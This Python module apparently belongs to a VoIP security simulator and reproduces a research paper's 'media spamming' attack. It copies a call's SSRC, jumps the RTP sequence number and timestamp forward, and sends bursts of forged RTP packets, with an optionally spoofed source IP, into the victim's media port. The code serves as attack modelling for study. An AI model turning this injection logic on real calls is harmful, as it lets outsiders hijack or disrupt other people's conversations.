"""Media spamming attack (paper Sections 3.2 and 6).

"A third party knowing the SDP information (IP address, port number, media
type and its encoding scheme) and the RTP synchronization source (SSRC)
identifier could fabricate RTP packets.  By having the same SSRC identifier
with higher sequence number or timestamp in the spoofed RTP packets, the
third party can play unauthorized media."

The injector sniffs the victim stream's SSRC and current sequence/timestamp
from the legitimate sender's state, jumps well past them, and plays its own
"media" into the victim's negotiated RTP port.
"""

from __future__ import annotations

from .base import WaitingAttack, burst, forged_rtp

__all__ = ["MediaSpamAttack"]


class MediaSpamAttack(WaitingAttack):
    """Inject fabricated RTP into an established call."""

    name = "media-spam"

    def __init__(
        self,
        start_time: float,
        seq_jump: int = 1000,
        ts_jump: int = 400_000,
        burst_packets: int = 100,
        burst_interval: float = 0.02,
        spoof_source: bool = True,
        max_wait: float = 600.0,
    ):
        super().__init__(start_time, max_wait)
        self.seq_jump = seq_jump
        self.ts_jump = ts_jump
        self.burst_packets = burst_packets
        self.burst_interval = burst_interval
        self.spoof_source = spoof_source

    def strike(self, sim, host, pair) -> None:
        self.victim_call_id = pair.callee_call.call_id
        # Sniffed stream parameters: the caller's sender toward the callee.
        media = pair.media()
        if media is None:
            return
        sender, victim = media
        ssrc = sender.ssrc
        seq = (sender.sequence_number + self.seq_jump) % (1 << 16)
        ts = (sender.timestamp + self.ts_jump) % (1 << 32)
        pt = sender.codec.payload_type
        src_ip = pair.caller_phone.host.ip if self.spoof_source else None

        def send(index: int) -> None:
            host.send_udp(victim, forged_rtp(pt, ssrc, seq, ts, index),
                          victim.port, src_ip=src_ip)

        burst(sim, sim.now, self.burst_packets, self.burst_interval, send)
        self.log(sim.now, f"spam burst -> {victim} ssrc={ssrc} "
                          f"call={self.victim_call_id}")
